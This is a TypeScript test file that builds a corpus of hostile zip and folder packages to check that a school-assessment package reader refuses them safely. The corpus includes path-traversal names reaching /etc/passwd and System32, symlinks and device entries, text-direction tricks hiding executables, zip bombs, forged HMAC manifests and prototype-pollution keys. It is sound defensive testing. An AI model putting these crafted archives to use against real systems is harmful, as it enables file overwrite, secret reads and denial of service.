/**
 * The hostile-package corpus (issue 11 item 6): several hundred packages generated here, each a
 * combination of the attacks a USB stick from an unknown PC can carry — zip-slip and absolute paths,
 * links, bombs, GBK names, lying and dangerous files, duplicates, reserved names, damaged zips,
 * corrupt and forged manifests, other rounds and units, tampered workbooks — written as zips and
 * folders in a temporary directory and read with readPackage.
 *
 * Every case must: return (never throw, never hang: a 15 s limit each), say what is wrong in Chinese
 * (an error, or a refused file with its reason), never meet the internal-error fallback, and never
 * let the store keep a refused file (a file refused by its name, listing or first bytes is never
 * even offered; one that fails half-way ends its stream with an error, which a store must not keep).
 * Files the store kept are exactly the files the result says were received, with the same hashes.
 */
import { execFileSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import type ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PackageLimits } from './archive/limits';
import { FILES, ManifestFields, SHEETS, signManifest, type Manifest, type ReadPackageResult } from './format';
import { readPackage, type PackageContext } from './read-package';
import {
  buildTestPackage,
  docxBytes,
  evidenceFolder,
  OTHER_SECRET,
  SAMPLE_BYTES,
  VALID_ANSWERS,
  VALID_STATS,
  writePackageFolder,
  writePackageZip,
  type CellInput,
  type PackageFile,
  type PackageZipOptions,
  type TestPackage,
  type TestPackageInput,
} from './testing/build-package';
import { gbk } from './testing/gbk';
import { recordingStore, type RecordingStore } from './testing/recording-store';
import { writeRawZip, type RawZipEntry, type ZipWriteOptions } from './testing/zip-writer';

// ---------------------------------------------------------------- corpus machinery

interface Built {
  /** The zip file or package folder to read. */
  target: string;
  context?: PackageContext;
  resolve?: (m: Manifest) => PackageContext | { error: string } | Promise<PackageContext | { error: string }>;
  limits?: Partial<PackageLimits>;
  /** Runs inside the store before each call (to change the folder mid-import). */
  onStore?: (path: string) => Promise<void>;
}

type Expectation =
  /** The manifest stage stopped the reading: this error, nothing stored, nothing read. */
  | { stop: string }
  /** The whole zip or folder could not be read. */
  | { archive: string }
  /** A path like this one (equal, containing it, or its folder) was refused with a reason containing this text. */
  | { refuse: string; reason: string }
  /** At least this many files were refused (several attacks in one package). */
  | { refusedAtLeast: number }
  /** An error issue contains this text. */
  | { error: string }
  /** A warning issue contains this text (the package is otherwise read). */
  | { warning: string }
  /** Read without errors (odd but valid). */
  | { ok: true };

interface Case {
  family: string;
  name: string;
  build: () => Promise<Built>;
  expect: Expectation;
  /** A file whose damage shows only after its head (CRC, size): it may be offered to the store, whose stream then fails. */
  midStream?: string;
}

let root: string;
let base: TestPackage;
let n = 0;
const cases: Case[] = [];
const add = (family: string, name: string, build: () => Promise<Built>, expectation: Expectation, midStream?: string) => cases.push({ family, name, build, expect: expectation, midStream });
const next = (ext = '') => path.join(root, `c${++n}${ext}`);

const photo = () => `${evidenceFolder('1.1')}/校舍照片.jpg`;
const pdfPath = () => `${evidenceFolder('1.2')}/设备清单.pdf`;

/** The base package's files with some replaced, removed or added. */
function files(change: { replace?: Record<string, Buffer>; remove?: string[]; add?: PackageFile[] } = {}): PackageFile[] {
  return base.files
    .filter((f) => !change.remove?.includes(f.path))
    .map((f) => (change.replace?.[f.path] ? { path: f.path, data: change.replace[f.path] } : f))
    .concat(change.add ?? []);
}

async function asZip(fs_: PackageFile[], opts: PackageZipOptions = {}, zipOpts?: ZipWriteOptions): Promise<string> {
  const file = next('.zip');
  if (zipOpts) {
    const entries: RawZipEntry[] = fs_.map((f) => ({ name: f.path, data: f.data, ...opts.tweak?.[f.path] }));
    await writeRawZip(file, [...entries, ...(opts.extra ?? [])], zipOpts);
    return file;
  }
  return writePackageZip(file, fs_, opts);
}

async function asFolder(fs_: PackageFile[]): Promise<string> {
  return writePackageFolder(next(), fs_);
}

function manifestBytes(m: unknown): Buffer {
  return Buffer.from(typeof m === 'string' ? m : JSON.stringify(m, null, 2), 'utf8');
}

const fields = (): Omit<Manifest, 'signature'> => {
  const { signature: _s, ...f } = base.manifest;
  return f;
};

/** Runs a case with a time limit; returns the result and the store's record. */
async function run(c: Case): Promise<{ result: ReadPackageResult; rec: RecordingStore }> {
  const built = await c.build();
  const inner = recordingStore();
  const rec: RecordingStore = {
    calls: inner.calls,
    kept: inner.kept,
    store: async (stream, meta) => {
      await built.onStore?.(meta.path);
      return inner.store(stream, meta);
    },
    // Folder packages go through the direct path, as in the product (BlobBatch.putDirect).
    storeDirect: async (source, meta) => {
      await built.onStore?.(meta.path);
      return inner.storeDirect!(source, meta);
    },
  };
  const context = built.context ?? base.context;
  let timer: NodeJS.Timeout | undefined;
  const hang = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`case hung: ${c.family} / ${c.name}`)), 15_000);
  });
  try {
    const result = await Promise.race([readPackage(built.target, { resolve: built.resolve ?? (() => context), store: rec.store, storeDirect: rec.storeDirect, limits: built.limits }), hang]);
    return { result, rec };
  } finally {
    clearTimeout(timer);
  }
}

const CJK = /[\u4e00-\u9fff]/;
/** Internals that must never reach a user (checked outside the “quoted” user content). */
const LEAK = /undefined|\[object|NaN|Error\b|ENOENT|EACCES|EBUSY|EPERM|at \w+ \(|\bnull\b|\bnodeId\b|\bsha256\b/;
const unquoted = (s: string) => s.replace(/“[^”]*”/g, '“”');

/** Whether a refused path matches the expected one (the same, containing it, or a folder above it). */
const matches = (refused: string, expected: string) => refused === expected || refused.includes(expected) || (refused !== '' && expected.startsWith(refused));

function checkInvariants(c: Case, result: ReadPackageResult, rec: RecordingStore): void {
  for (const i of result.issues) {
    expect(i.message, `${c.name}: issue in Chinese`).toMatch(CJK);
    expect(unquoted(i.message), `${c.name}: no internals`).not.toMatch(LEAK);
    expect(i.message, `${c.name}: internal error fallback`).not.toContain('程序出错');
    expect(path.isAbsolute(i.file), `${c.name}: issue file inside the package`).toBe(false);
    if (i.row !== undefined) expect(i.row).toBeGreaterThan(0);
    if (i.column !== undefined) expect(i.column).toMatch(/^[A-Z]+$/);
  }
  for (const r of result.refused) {
    expect(r.reason, `${c.name}: refusal in Chinese`).toMatch(CJK);
    expect(unquoted(r.reason)).not.toMatch(LEAK);
  }
  // The store kept exactly what was received, with the same bytes.
  const received = new Map<string, string>();
  for (const f of [...result.evidence, ...(result.report ? [result.report] : []), ...(result.workbook ? [result.workbook] : [])]) received.set(f.path, f.sha256);
  const kept = rec.calls.filter((x) => x.kept);
  for (const k of kept) {
    if (received.has(k.path)) expect(k.sha256, `${c.name}: stored bytes of ${k.path}`).toBe(received.get(k.path));
    // A kept call whose file is not received is only possible for the workbook when its content failed to parse.
    else expect(k.path === FILES.workbook && result.issues.some((i) => i.file === FILES.workbook && i.severity === 'error'), `${c.name}: kept but not received: ${k.path}`).toBe(true);
  }
  for (const f of received.keys()) expect(kept.some((k) => k.path === f), `${c.name}: received ${f} was stored`).toBe(true);
  // Nothing refused was kept; most refusals never reached the store at all.
  const e = c.expect;
  for (const r of result.refused) {
    expect(kept.some((k) => k.path === r.path), `${c.name}: refused ${r.path} kept`).toBe(false);
    if (!(c.midStream && matches(r.path, c.midStream))) expect(rec.calls.some((k) => k.path === r.path), `${c.name}: refused ${r.path} offered to the store`).toBe(false);
  }
  // Something is said about every case that is not plainly valid.
  if (!('ok' in e)) expect(result.issues.length + result.refused.length, `${c.name}: says something`).toBeGreaterThan(0);
}

function checkExpectation(c: Case, result: ReadPackageResult, rec: RecordingStore): void {
  const e = c.expect;
  const errors = result.issues.filter((i) => i.severity === 'error');
  if ('stop' in e) {
    expect(errors.map((i) => i.message).join(' | '), c.name).toContain(e.stop);
    expect(result.manifest).toBeNull();
    expect(result.answers).toEqual([]);
    expect(result.evidence).toEqual([]);
    expect(rec.calls).toEqual([]);
  } else if ('archive' in e) {
    expect(errors.some((i) => i.file === '' && i.message.includes(e.archive)), `${c.name}: ${JSON.stringify(errors)}`).toBe(true);
    expect(rec.calls).toEqual([]);
  } else if ('refuse' in e) {
    const hit = result.refused.find((r) => matches(r.path, e.refuse) && r.reason.includes(e.reason));
    expect(hit, `${c.name}: ${e.refuse} refused; refused = ${JSON.stringify(result.refused)}`).toBeTruthy();
  } else if ('refusedAtLeast' in e) {
    expect(result.refused.length, JSON.stringify(result.refused)).toBeGreaterThanOrEqual(e.refusedAtLeast);
  } else if ('error' in e) {
    expect(errors.map((i) => i.message).join(' | '), c.name).toContain(e.error);
  } else if ('warning' in e) {
    expect(result.issues.filter((i) => i.severity === 'warning').map((i) => i.message).join(' | '), c.name).toContain(e.warning);
  } else {
    expect(errors, c.name).toEqual([]);
    expect(result.manifest).not.toBeNull();
  }
}

// ---------------------------------------------------------------- the cases

const zeros = (bytes: number) => async function* () {
  const chunk = Buffer.alloc(256 * 1024);
  for (let left = bytes; left > 0; left -= chunk.length) yield left >= chunk.length ? chunk : chunk.subarray(0, left);
};
const tryGbk = (s: string): Buffer | null => {
  try {
    return gbk(s);
  } catch {
    return null;
  }
};

// A. Paths that point outside the package or mean something else on Windows (zip: UTF-8 and GBK names).
const HOSTILE_NAMES: [string, string][] = [
  ['../evil.jpg', '路径穿越'],
  ['../../../../../../etc/passwd', '路径穿越'],
  ['佐证材料/../../outside.jpg', '路径穿越'],
  ['佐证材料/1.1 校舍场地/../../../x.pdf', '路径穿越'],
  ['..\\..\\Windows\\System32\\evil.dll', '路径穿越'],
  ['佐证材料\\..\\..\\x.jpg', '路径穿越'],
  ['/etc/cron.d/evil', '绝对路径'], // check-test-paths: ignore
  ['/tmp/x.jpg', '绝对路径'],
  ['C:\\Windows\\System32\\drivers\\etc\\hosts', '绝对路径'], // check-test-paths: ignore
  ['c:/Users/Public/x.jpg', '绝对路径'], // check-test-paths: ignore
  ['D:x.jpg', '绝对路径'],
  ['\\\\server\\share\\x.jpg', '绝对路径'],
  ['//server/share/x.jpg', '绝对路径'],
  ['CON', '保留设备名'],
  ['佐证材料/NUL.txt', '保留设备名'],
  ['佐证材料/1.1 校舍场地/com1.jpg', '保留设备名'],
  ['LPT1.pdf', '保留设备名'],
  ['aux.docx', '保留设备名'],
  ['佐证材料/PRN', '保留设备名'],
  ['佐证材料/照片.jpg.', '以点或空格结尾'],
  ['佐证材料/照片.jpg ', '以点或空格结尾'],
  ['佐证材料/文件夹./a.jpg', '以点或空格结尾'],
  ['佐证材料/...', '以点或空格结尾'],
  ['佐证材料/a|b.jpg', '不允许的字符'],
  ['佐证材料/a?.jpg', '不允许的字符'],
  ['佐证材料/a*.jpg', '不允许的字符'],
  ['佐证材料/a<b>.jpg', '不允许的字符'],
  ['佐证材料/a"b.jpg', '不允许的字符'],
  ['佐证材料/照片.jpg:Zone.Identifier', '不允许的字符'],
  ['佐证材料/a\u0007.jpg', '不允许的字符'],
  ['佐证材料/a\u0000.jpg', '空字符'],
  ['佐证材料/照片\u202Egpj.exe', '改变文字显示方向'],
  ['佐证材料/报告\u2067fdp.scr', '改变文字显示方向'],
  [`佐证材料/${'深/'.repeat(20)}x.jpg`, '嵌套'],
  [`佐证材料/${'长'.repeat(260)}.jpg`, '超过'],
];
/** The path a refusal names for `name`: separators and dot segments normalised, cut before any control character (shown escaped). */
// eslint-disable-next-line no-control-regex -- control characters are exactly what is cut
const refusedAs = (p: string) => p.replace(/\\/g, '/').split('/').filter((s) => s && s !== '.').join('/').normalize('NFC').split(/[\u0000-\u001f\u202a-\u202e\u2066-\u2069]/)[0].slice(0, 30);
for (const [name, why] of HOSTILE_NAMES) {
  const shown = JSON.stringify(name).slice(0, 50);
  add('A 路径', `UTF-8 ${shown}`, async () => ({ target: await asZip(files(), { extra: [{ name, data: SAMPLE_BYTES.jpeg() }] }) }), { refuse: refusedAs(name), reason: why });
  const raw = tryGbk(name);
  if (raw) add('A 路径', `GBK ${shown}`, async () => ({ target: await asZip(files(), { extra: [{ name: raw, utf8Flag: false, data: SAMPLE_BYTES.jpeg() }] }) }), { refuse: refusedAs(name), reason: why });
}
// …and the same reserved and odd names in a folder (a USB stick formatted elsewhere can hold them).
for (const [name, why] of HOSTILE_NAMES.filter(([nm]) => !nm.includes('..') && !nm.startsWith('/') && !nm.includes('\\') && !/^[A-Za-z]:/.test(nm) && !nm.includes('\u0000') && !nm.endsWith('/...') && nm.length < 200 && !nm.includes('深/'))) {
  add('A 路径', `文件夹 ${JSON.stringify(name).slice(0, 40)}`, async () => ({ target: await asFolder(files({ add: [{ path: name, data: SAMPLE_BYTES.jpeg() }] })) }), { refuse: refusedAs(name), reason: why });
}

// B. Links and special entries.
const LINKS: [string, RawZipEntry, Expectation][] = [
  ['evidence symlink to /etc/passwd', { name: `${photo()}.lnk.jpg`, data: '/etc/passwd', unixMode: 0o120777 }, { refuse: `${photo()}.lnk.jpg`, reason: '符号链接' }], // check-test-paths: ignore
  ['evidence folder symlink', { name: `${evidenceFolder('1.2')}/链接`, data: '/', unixMode: 0o120755 }, { refuse: `${evidenceFolder('1.2')}/链接`, reason: '符号链接' }],
  ['macOS-made symlink', { name: '佐证材料/a.jpg', data: '../../x', unixMode: 0o120644 }, { refuse: '佐证材料/a.jpg', reason: '符号链接' }],
  ['NTFS reparse point', { name: '佐证材料/junction', data: 'C:\\', dosAttributes: 0x400 }, { refuse: '佐证材料/junction', reason: '符号链接' }], // check-test-paths: ignore
  ['FIFO entry', { name: '佐证材料/pipe', unixMode: 0o010644 }, { refuse: '佐证材料/pipe', reason: '不是普通文件' }],
  ['character device', { name: '佐证材料/zero', unixMode: 0o020666 }, { refuse: '佐证材料/zero', reason: '不是普通文件' }],
  ['block device', { name: '佐证材料/sda', unixMode: 0o060660 }, { refuse: '佐证材料/sda', reason: '不是普通文件' }],
  ['socket', { name: '佐证材料/sock', unixMode: 0o140777 }, { refuse: '佐证材料/sock', reason: '不是普通文件' }],
];
for (const [name, entry, exp] of LINKS) add('B 链接', name, async () => ({ target: await asZip(files(), { extra: [entry] }) }), exp);
add('B 链接', 'workbook as a symlink', async () => ({ target: await asZip(files({ remove: [FILES.workbook] }), { extra: [{ name: FILES.workbook, data: '/etc/passwd', unixMode: 0o120777 }] }) }), { error: '自评表未能读取' }); // check-test-paths: ignore
add('B 链接', 'manifest as a symlink', async () => ({ target: await asZip(files({ remove: [FILES.manifest] }), { extra: [{ name: FILES.manifest, data: '/etc/passwd', unixMode: 0o120777 }] }) }), { stop: '校验信息文件无法读取' }); // check-test-paths: ignore
add('B 链接', 'report as a symlink', async () => ({ target: await asZip(files({ remove: ['学校自评报告.docx'] }), { extra: [{ name: '学校自评报告.docx', data: '/etc/passwd', unixMode: 0o120777 }] }) }), { refuse: '学校自评报告.docx', reason: '符号链接' }); // check-test-paths: ignore
if (process.platform !== 'win32') {
  const linkCase = (name: string, make: (dir: string, outside: string) => Promise<void>, exp: Expectation) =>
    add('B 链接', `文件夹 ${name}`, async () => {
      const dir = await asFolder(files());
      const outside = next();
      await fs.mkdir(outside);
      await fs.writeFile(path.join(outside, 'secret.jpg'), SAMPLE_BYTES.jpeg());
      await make(dir, outside);
      return { target: dir };
    }, exp);
  linkCase('symlink to a file outside', (d, o) => fs.symlink(path.join(o, 'secret.jpg'), path.join(d, evidenceFolder('1.1'), '外部.jpg')), { refuse: '外部.jpg', reason: '符号链接或目录联接' });
  linkCase('symlink to a folder outside', (d, o) => fs.symlink(o, path.join(d, FILES.evidenceDir, '外部文件夹')), { refuse: '外部文件夹', reason: '符号链接或目录联接' });
  linkCase('symlink to the root', (d) => fs.symlink('/', path.join(d, FILES.evidenceDir, 'root')), { refuse: 'root', reason: '符号链接' });
  linkCase('manifest is a symlink', async (d, o) => {
    await fs.rename(path.join(d, FILES.manifest), path.join(o, 'm.json'));
    await fs.symlink(path.join(o, 'm.json'), path.join(d, FILES.manifest));
  }, { stop: '校验信息文件无法读取' });
  linkCase('a pipe among the evidence', async (d) => void execFileSync('mkfifo', [path.join(d, evidenceFolder('1.1'), '管道.jpg')]), { refuse: '管道.jpg', reason: '设备或管道' });
  linkCase('the workbook is a pipe', async (d) => {
    await fs.rm(path.join(d, FILES.workbook));
    execFileSync('mkfifo', [path.join(d, FILES.workbook)]);
  }, { error: '设备或管道' });
}

// C. Bombs.
add('C 炸弹', 'ratio bomb among the evidence', async () => ({ target: await asZip(files(), { extra: [{ name: `${photo()}.bomb.pdf`, data: zeros(3 * 1024 * 1024) }] }) }), { refuse: '.bomb.pdf', reason: '倍' });
add('C 炸弹', 'ratio bomb as the report', async () => ({ target: await asZip(files({ remove: ['学校自评报告.docx'] }), { extra: [{ name: '学校自评报告.pdf', data: zeros(3 * 1024 * 1024) }] }) }), { refuse: '学校自评报告.pdf', reason: '倍' });
add('C 炸弹', 'entry declaring 4 GB', async () => ({ target: await asZip(files(), { extra: [{ name: '佐证材料/huge.pdf', data: 'x', declaredSize: 0xfffffff0 }] }) }), { refuse: 'huge.pdf', reason: '超过单个文件上限' });
add('C 炸弹', 'ZIP64 entry declaring a petabyte', async () => ({ target: await asZip(files(), { extra: [{ name: '佐证材料/peta.pdf', data: 'x', declaredSize: 2 ** 50, zip64: true }] }) }), { refuse: 'peta.pdf', reason: '超过单个文件上限' });
add('C 炸弹', 'many entries summing beyond the package total', async () => ({
  target: await asZip(files(), { extra: Array.from({ length: 4 }, (_, i) => ({ name: `佐证材料/r${i}.pdf`, data: Buffer.concat([SAMPLE_BYTES.pdf(), randomBytes(300_000)]) })) }),
  limits: { maxTotalBytes: 1_000_000 },
}), { archive: '超过一个填报包的上限' });
add('C 炸弹', 'overlapping entries', async () => ({ target: await asZip(files(), { extra: [{ name: '佐证材料/o1.pdf', data: 'x', sharesDataWith: 0 }, { name: '佐证材料/o2.pdf', data: 'x', sharesDataWith: 0 }] }) }), { archive: '同一段数据' });
add('C 炸弹', 'too many entries', async () => ({ target: await asZip(files(), { extra: Array.from({ length: 60 }, (_, i) => ({ name: `佐证材料/n${i}.txt`, data: '说明' })) }), limits: { maxEntries: 50 } }), { archive: '超过上限 50 个' });
add('C 炸弹', 'entry lying small (head)', async () => ({ target: await asZip(files(), { extra: [{ name: '佐证材料/lie.pdf', data: zeros(2 * 1024 * 1024), declaredSize: 100 }] }) }), { refuse: 'lie.pdf', reason: '实际大小超过' });
add('C 炸弹', 'entry lying small (mid-stream)', async () => ({ target: await asZip(files(), { extra: [{ name: '佐证材料/lie2.pdf', data: async function* () { yield SAMPLE_BYTES.pdf(); yield* zeros(2 * 1024 * 1024)(); }, declaredSize: 8192 }] }) }), { refuse: 'lie2.pdf', reason: '实际大小超过' }, 'lie2.pdf');
add('C 炸弹', 'entry lying large', async () => ({ target: await asZip(files(), { extra: [{ name: '佐证材料/short.pdf', data: SAMPLE_BYTES.pdf(), declaredSize: 5000 }] }) }), { refuse: 'short.pdf', reason: '不完整' });
add('C 炸弹', 'per-file cap (lowered)', async () => ({ target: await asZip(files(), { extra: [{ name: '佐证材料/big.pdf', data: Buffer.concat([SAMPLE_BYTES.pdf(), randomBytes(50_000)]) }] }), limits: { maxFileBytes: 40_000 } }), { refuse: 'big.pdf', reason: '超过单个文件上限' });
add('C 炸弹', 'workbook too large', async () => ({ target: await asZip(files()), limits: { maxWorkbookBytes: 1000 } }), { error: '不像是下发的自评表' });
add('C 炸弹', 'workbook whose sheet is a bomb', async () => {
  const bomb = next('.xlsx');
  await writeRawZip(bomb, [
    { name: '[Content_Types].xml', data: '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>' },
    { name: '_rels/.rels', data: '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>' },
    { name: 'xl/workbook.xml', data: '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="自评" sheetId="1" r:id="rId1"/></sheets></workbook>' },
    { name: 'xl/_rels/workbook.xml.rels', data: '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>' },
    { name: 'xl/worksheets/sheet1.xml', data: zeros(6 * 1024 * 1024) },
  ]);
  return { target: await asZip(files({ replace: { [FILES.workbook]: await fs.readFile(bomb) } })) };
}, { error: '压缩炸弹' });
add('C 炸弹', 'a zip inside the package', async () => ({ target: await asZip(files({ add: [{ path: `${photo()}.zip`, data: await fs.readFile(await asZip(files())) }] })) }), { refuse: '.zip', reason: '压缩包' });
add('C 炸弹', 'a zip disguised as a photo', async () => ({ target: await asZip(files({ add: [{ path: `${evidenceFolder('1.1')}/伪装.jpg`, data: await fs.readFile(await asZip(files())) }] })) }), { refuse: '伪装.jpg', reason: '压缩包' });

// D. Damaged zips.
for (const cut of [0.05, 0.3, 0.6, 0.95, 0.999]) {
  add('D 损坏', `truncated to ${cut * 100}%`, async () => {
    const file = await asZip(files());
    const size = (await fs.stat(file)).size;
    await fs.truncate(file, Math.floor(size * cut));
    return { target: file };
  }, { archive: '' });
}
add('D 损坏', 'garbage', async () => {
  const file = next('.zip');
  await fs.writeFile(file, randomBytes(5000));
  return { target: file };
}, { archive: '不是有效的 zip' });
add('D 损坏', 'empty file', async () => {
  const file = next('.zip');
  await fs.writeFile(file, Buffer.alloc(0));
  return { target: file };
}, { archive: '' });
add('D 损坏', 'split archive', async () => ({ target: await asZip(files(), {}, { diskNumber: 2 }) }), { archive: '分卷' });
add('D 损坏', 'broken ZIP64 records', async () => {
  const file = await asZip(files(), {}, { zip64: true });
  const buf = await fs.readFile(file);
  buf.writeUInt32LE(0, buf.lastIndexOf(Buffer.from([0x50, 0x4b, 0x06, 0x06])));
  await fs.writeFile(file, buf);
  return { target: file };
}, { archive: 'ZIP64' });
add('D 损坏', 'valid ZIP64 package', async () => ({ target: await asZip(files(), { tweak: Object.fromEntries(base.files.map((f) => [f.path, { zip64: true }])) }, { zip64: true }) }), { ok: true });
add('D 损坏', 'CRC mismatch in a small photo', async () => ({ target: await asZip(files(), { tweak: { [photo()]: { crc32: 42 } } }) }), { refuse: photo(), reason: 'CRC' });
add('D 损坏', 'CRC mismatch in a large file (mid-stream)', async () => ({ target: await asZip(files({ add: [{ path: '佐证材料/大.pdf', data: Buffer.concat([SAMPLE_BYTES.pdf(), randomBytes(200_000)]) }] }), { tweak: { '佐证材料/大.pdf': { crc32: 42 } } }) }), { refuse: '大.pdf', reason: 'CRC' }, '大.pdf');
add('D 损坏', 'CRC mismatch in the workbook', async () => ({ target: await asZip(files(), { tweak: { [FILES.workbook]: { crc32: 42 } } }) }), { error: 'CRC' }, FILES.workbook);
add('D 损坏', 'CRC mismatch in the manifest', async () => ({ target: await asZip(files(), { tweak: { [FILES.manifest]: { crc32: 42 } } }) }), { stop: '校验信息文件无法读取' });
add('D 损坏', 'deflated data overwritten', async () => {
  const file = await asZip(files({ add: [{ path: '佐证材料/文字.txt', data: Buffer.from('说明文字'.repeat(3000)) }] }));
  const buf = await fs.readFile(file);
  const at = buf.indexOf(Buffer.from('佐证材料/文字.txt')) + Buffer.byteLength('佐证材料/文字.txt') + 10;
  buf.fill(0xff, at, at + 40);
  await fs.writeFile(file, buf);
  return { target: file };
}, { refuse: '文字.txt', reason: '' }, '文字.txt');
for (const [method, label] of [[9, 'Deflate64'], [12, 'bzip2'], [14, 'LZMA'], [93, 'Zstandard'], [95, 'XZ'], [98, 'PPMd'], [99, 'AES']] as const) {
  add('D 损坏', `evidence compressed with ${label}`, async () => ({ target: await asZip(files(), { tweak: { [pdfPath()]: { method } } }) }), { refuse: pdfPath(), reason: `编号 ${method}` });
}
add('D 损坏', 'encrypted evidence', async () => ({ target: await asZip(files(), { tweak: { [photo()]: { encrypted: true } } }) }), { refuse: photo(), reason: '已加密' });
add('D 损坏', 'encrypted workbook', async () => ({ target: await asZip(files(), { tweak: { [FILES.workbook]: { encrypted: true } } }) }), { error: '已加密' });
add('D 损坏', 'encrypted manifest', async () => ({ target: await asZip(files(), { tweak: { [FILES.manifest]: { encrypted: true } } }) }), { stop: '已加密' });
add('D 损坏', 'stored entry with disagreeing sizes', async () => ({ target: await asZip(files(), { tweak: { [photo()]: { method: 0, declaredSize: 999 } } }) }), { refuse: photo(), reason: '前后不一致' });

// E. Corrupt manifests.
const MANIFEST_TEXTS: [string, () => string | Buffer, string][] = [
  ['empty', () => '', '已损坏或被改动'],
  ['whitespace', () => '   \r\n', '已损坏或被改动'],
  ['truncated JSON', () => JSON.stringify(base.manifest).slice(0, 100), '已损坏或被改动'],
  ['array', () => '[1,2,3]', '不是本程序的填报包校验信息'],
  ['null', () => 'null', '不是本程序的填报包校验信息'],
  ['string', () => '"填报包"', '不是本程序的填报包校验信息'],
  ['other format', () => JSON.stringify({ ...base.manifest, format: 'odk-briefcase' }), '不是本程序的填报包校验信息'],
  ['format version 2', () => JSON.stringify({ ...base.manifest, formatVersion: 2 }), '较新版本'],
  ['format version 0', () => JSON.stringify({ ...base.manifest, formatVersion: 0 }), '已损坏或被改动'],
  ['UTF-16', () => Buffer.from(`\uFEFF${JSON.stringify(base.manifest)}`, 'utf16le'), '已损坏或被改动'],
  ['GBK', () => gbk(JSON.stringify(base.manifest)), '已损坏或被改动'],
  ['NUL bytes', () => Buffer.concat([manifestBytes(base.manifest), Buffer.alloc(10)]), '已损坏或被改动'],
  ['100 KB', () => JSON.stringify({ ...base.manifest, pad: 'x'.repeat(100_000) }), '大小异常'],
  ['deep nesting', () => `${'['.repeat(5000)}${']'.repeat(5000)}`, '不是本程序的填报包校验信息'],
  ['signature upper case', () => JSON.stringify({ ...base.manifest, signature: base.manifest.signature.toUpperCase() }), '已损坏或被改动'],
  ['signature missing', () => JSON.stringify({ ...base.manifest, signature: undefined }), '已损坏或被改动'],
];
for (const [name, text, message] of MANIFEST_TEXTS) {
  add('E 校验信息', name, async () => ({ target: await asZip(files({ replace: { [FILES.manifest]: Buffer.isBuffer(text()) ? (text() as Buffer) : manifestBytes(text()) } })) }), { stop: message });
}
add('E 校验信息', 'manifest missing', async () => ({ target: await asZip(files({ remove: [FILES.manifest] })) }), { stop: '找不到填报包校验信息文件' });
add('E 校验信息', 'manifest renamed', async () => ({ target: await asFolder(files({ remove: [FILES.manifest], add: [{ path: '填报包校验信息（请勿修改）(1).json', data: manifestBytes(base.manifest) }] })) }), { stop: '找不到填报包校验信息文件' });
add('E 校验信息', 'manifest only in a sub-folder', async () => ({ target: await asFolder(files({ remove: [FILES.manifest], add: [{ path: `${FILES.evidenceDir}/${FILES.manifest}`, data: manifestBytes(base.manifest) }] })) }), { stop: '找不到填报包校验信息文件' });
add('E 校验信息', 'extra keys, __proto__ and constructor are ignored, not trusted (valid)', async () => {
  const text = JSON.stringify({ ...base.manifest, constructor: { prototype: { polluted: 1 } } }).replace('"signature"', '"__proto__":{"polluted":1},"signature"');
  return { target: await asZip(files({ replace: { [FILES.manifest]: Buffer.from(text) } })) };
}, { ok: true });
add('E 校验信息', 'manifest BOM-less and compact (valid)', async () => ({ target: await asZip(files({ replace: { [FILES.manifest]: Buffer.from(JSON.stringify(base.manifest)) } })) }), { ok: true });
for (const key of Object.keys(ManifestFields.shape)) {
  add('E 校验信息', `field ${key} removed`, async () => {
    const m: Record<string, unknown> = { ...base.manifest };
    delete m[key];
    return { target: await asZip(files({ replace: { [FILES.manifest]: manifestBytes(m) } })) };
  }, { stop: key === 'format' ? '不是本程序的填报包校验信息' : '已损坏或被改动' });
  add('E 校验信息', `field ${key} of the wrong type`, async () => {
    const v = (base.manifest as Record<string, unknown>)[key];
    const wrong = typeof v === 'number' ? String(v) : typeof v === 'string' ? 12345 : v === null ? 'null' : 'x';
    return { target: await asZip(files({ replace: { [FILES.manifest]: manifestBytes({ ...base.manifest, [key]: wrong }) } })) };
  }, { stop: key === 'format' ? '不是本程序的填报包校验信息' : '已损坏或被改动' });
}

// F. Forged signatures: every field changed after signing, a forged HMAC, another round's secret.
const TAMPER: Record<string, (v: unknown) => unknown> = {
  packageId: () => '11111111-2222-4333-8444-555555555555',
  roundUid: () => '99999999-2222-4333-8444-555555555555',
  roundId: (v) => (v as number) + 1,
  roundName: (v) => `${v}（副本）`,
  year: (v) => (v as number) - 1,
  unitId: (v) => (v as number) + 1,
  unitCode: () => 'S008',
  unitName: () => '柳林乡中心小学',
  schoolId: (v) => (v as number) + 1,
  campusId: () => 2,
  packageVersion: (v) => (v as number) + 1,
  baseRevision: (v) => (v as number) + 3,
  issuedAt: () => '2025-01-01T00:00:00.000Z',
  systemId: (v) => (v as number) + 1,
  systemVersion: (v) => (v as number) + 1,
  systemHash: () => 'd'.repeat(64),
  reportTemplateSha256: () => 'e'.repeat(64),
};
for (const [key, change] of Object.entries(TAMPER)) {
  add('F 签名', `${key} changed after signing`, async () => {
    const m = { ...base.manifest, [key]: change((base.manifest as Record<string, unknown>)[key]) };
    return { target: await asZip(files({ replace: { [FILES.manifest]: manifestBytes(m) } })) };
  }, { stop: '填报包校验信息被修改或不属于本评估项目' });
}
add('F 签名', 'forged HMAC', async () => ({ target: await asZip(files({ replace: { [FILES.manifest]: manifestBytes({ ...base.manifest, signature: createHash('sha256').update('forged').digest('hex') }) } })) }), { stop: '校验码不符' });
add('F 签名', 'signed with another round’s secret', async () => ({ target: await asZip(files({ replace: { [FILES.manifest]: manifestBytes(signManifest(fields(), OTHER_SECRET)) } })) }), { stop: '校验码不符' });
add('F 签名', 're-signed with a guessed secret', async () => ({ target: await asZip(files({ replace: { [FILES.manifest]: manifestBytes(signManifest({ ...fields(), unitCode: 'S999' }, '00'.repeat(32))) } })) }), { stop: '校验码不符' });
